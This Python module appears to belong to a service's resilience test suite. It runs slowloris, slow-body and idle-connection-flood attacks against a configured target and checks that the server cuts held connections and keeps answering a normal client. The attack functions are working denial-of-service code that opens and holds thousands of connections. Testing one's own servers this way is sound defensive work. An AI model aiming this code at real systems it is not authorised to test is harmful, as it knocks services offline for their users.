"""Attacks that hold connections open cheaply: slowloris, slow body, idle-connection flood.

Each connection is watched until the server cuts it (or the hold ends); meanwhile a normal
client prices one house every 0.2 s on fresh connections. A server that never cuts such
connections runs out of them; one that keeps too many keeps the normal client waiting.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter
from dataclasses import dataclass, field

from tools.attacks.budget import Budget
from tools.attacks.expectations import Expectations
from tools.attacks.net import Endpoint, close, connect, until_closed
from tools.attacks.probe import ProbeStats, probe_until
from tools.attacks.report import Outcome
from tools.attacks.target import Target


@dataclass
class Cuts:
    """When the server ended each held connection, and what it said first."""

    after_s: list[float] = field(default_factory=list)
    not_cut: int = 0
    not_opened: int = 0
    said: Counter[str] = field(default_factory=Counter)  # "408", "503", "nothing"

    @property
    def held(self) -> int:
        return len(self.after_s) + self.not_cut

    def summary(self, hold_s: float) -> str:
        said = " ".join(f"{what}x{n}" for what, n in sorted(self.said.items()))
        if not self.after_s:
            return f"cut 0/{self.held} in {hold_s:.0f} s" + _refused(self.not_opened)
        ordered = sorted(self.after_s)
        return (
            f"cut {len(ordered)}/{self.held} (p50 {ordered[len(ordered) // 2]:.1f} s, "
            f"max {ordered[-1]:.1f} s; said {said})" + _refused(self.not_opened)
        )


def _refused(count: int) -> str:
    return f", {count} not opened" if count else ""


def _first_status(received: bytes) -> str:
    if received.startswith(b"HTTP/1."):
        return received.split(b" ", 2)[1].decode("latin-1")
    return "nothing" if not received else "junk"


async def hold_connection(
    endpoint: Endpoint,
    cuts: Cuts,
    *,
    opening: bytes,
    trickle: bytes,
    every_s: float,
    hold_s: float,
) -> None:
    """Send ``opening``, then ``trickle`` one byte per ``every_s`` (nothing if empty), until
    the server ends the connection or ``hold_s`` passes; note which in ``cuts``."""
    try:
        reader, writer = await connect(endpoint, timeout=10)
    except (OSError, TimeoutError):
        cuts.not_opened += 1
        return
    opened = time.perf_counter()
    ended = asyncio.create_task(until_closed(reader))
    try:
        if opening:
            writer.write(opening)
        position = 0
        deadline = opened + hold_s
        while not ended.done() and time.perf_counter() < deadline:
            await asyncio.wait({ended}, timeout=min(every_s, deadline - time.perf_counter()))
            if trickle and not ended.done():
                writer.write(trickle[position % len(trickle) : position % len(trickle) + 1])
                position += 1
        if ended.done():
            cuts.after_s.append(time.perf_counter() - opened)
            cuts.said[_first_status(ended.result())] += 1
        else:
            cuts.not_cut += 1
    finally:
        ended.cancel()
        close(writer)
        with contextlib.suppress(asyncio.CancelledError):
            await ended


async def _hold_many(
    target: Target, count: int, *, opening: bytes, trickle: bytes, every_s: float, hold_s: float
) -> tuple[Cuts, ProbeStats]:
    """``count`` held connections (opened 200 per 50 ms) with the prober running."""
    cuts, probes, stop = Cuts(), ProbeStats(), asyncio.Event()
    prober = asyncio.create_task(probe_until(target.endpoint, stop, probes))

    async def one(index: int) -> None:
        await asyncio.sleep(index // 200 * 0.05)
        await hold_connection(
            target.endpoint, cuts, opening=opening, trickle=trickle, every_s=every_s, hold_s=hold_s
        )

    await asyncio.gather(*(one(index) for index in range(count)))
    stop.set()
    await prober
    return cuts, probes


def probe_checks(
    outcome: Outcome, probes: ProbeStats, expect: Expectations, *, p50_max_ms: float | None = None
) -> None:
    """The normal requests sent during an attack: answered, and how fast (``p50_max_ms`` for
    attacks that take the machine's CPU, else ``expect.probe_p50_max_ms``)."""
    p50_limit = expect.probe_p50_max_ms if p50_max_ms is None else p50_max_ms
    share = probes.ok / max(probes.sent, 1)
    outcome.check(
        f"normal requests answered 200: at least {expect.probe_min_ok_share:.0%}",
        share >= expect.probe_min_ok_share,
        f"{share:.0%}",
    )
    outcome.check(
        f"normal request p50 under {p50_limit:.0f} ms",
        probes.quantile_ms(0.5) <= p50_limit,
    )
    outcome.check(
        f"normal request max under {expect.probe_max_ms:.0f} ms",
        probes.quantile_ms(1) <= expect.probe_max_ms,
    )


def _cut_check(outcome: Outcome, cuts: Cuts, within_s: float | None) -> None:
    if within_s is None:
        return
    latest = max(cuts.after_s, default=0.0)
    outcome.check(
        f"every connection cut within {within_s:.0f} s",
        cuts.not_cut == 0 and latest <= within_s,
        f"{cuts.not_cut} not cut, latest {latest:.1f} s",
    )


async def slowloris(target: Target, expect: Expectations, budget: Budget) -> Outcome:
    """Request heads that never end: a byte every few seconds, one header growing forever."""
    opening = b"POST /v1/predictions HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    cuts, probes = await _hold_many(
        target,
        budget.slowloris_connections,
        opening=opening,
        trickle=b"a",
        every_s=budget.trickle_every_s,
        hold_s=budget.slow_hold_s,
    )
    outcome = Outcome(
        "slowloris",
        f"{budget.slowloris_connections} heads: "
        f"{cuts.summary(budget.slow_hold_s)}; {probes.summary()}",
    )
    _cut_check(outcome, cuts, expect.head_cut_within_s)
    probe_checks(outcome, probes, expect)
    return outcome


async def slow_body(target: Target, expect: Expectations, budget: Budget) -> Outcome:
    """Full heads announcing 1000 bytes of body, then a few bytes: half trickle, half stall."""
    head = (
        b"POST /v1/predictions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n[{"LotArea": '
    )
    half = budget.slow_body_connections // 2
    trickling, stalled = await asyncio.gather(
        _hold_many(
            target,
            half,
            opening=head,
            trickle=b"1",
            every_s=budget.trickle_every_s,
            hold_s=budget.slow_hold_s,
        ),
        _hold_many(
            target,
            budget.slow_body_connections - half,
            opening=head,
            trickle=b"",
            every_s=budget.trickle_every_s,
            hold_s=budget.slow_hold_s,
        ),
    )
    outcome = Outcome(
        "slow body",
        f"{half} trickling: {trickling[0].summary(budget.slow_hold_s)}; "
        f"{budget.slow_body_connections - half} stalled: {stalled[0].summary(budget.slow_hold_s)}"
        f"; {trickling[1].summary()}",
    )
    _cut_check(outcome, trickling[0], expect.trickled_body_cut_within_s)
    _cut_check(outcome, stalled[0], expect.stalled_body_cut_within_s)
    probe_checks(outcome, trickling[1], expect)
    return outcome


async def idle_flood(target: Target, expect: Expectations, budget: Budget) -> Outcome:
    """Thousands of connections that never send a byte, held while normal clients keep coming."""
    cuts, probes = await _hold_many(
        target,
        budget.flood_sockets,
        opening=b"",
        trickle=b"",
        every_s=1.0,
        hold_s=budget.flood_hold_s,
    )
    answered = probes.outcomes["200"] + probes.outcomes["503"]
    outcome = Outcome(
        "idle flood",
        f"{budget.flood_sockets} silent sockets: {cuts.summary(budget.flood_hold_s)}; "
        f"{probes.summary()}",
    )
    outcome.check(
        "no normal request got an empty reply or a reset",
        probes.no_reply() == 0,
        f"{probes.no_reply()}",
    )
    outcome.check(
        f"normal requests answered (200, or 503): at least {expect.flood_min_answered_share:.0%}",
        answered >= expect.flood_min_answered_share * probes.sent,
        f"{answered}/{probes.sent}",
    )
    outcome.check(
        "every 503 carries Retry-After",
        probes.retry_after_missing == 0,
        f"{probes.retry_after_missing} without",
    )
    _cut_check(outcome, cuts, expect.idle_cut_within_s)
    return outcome
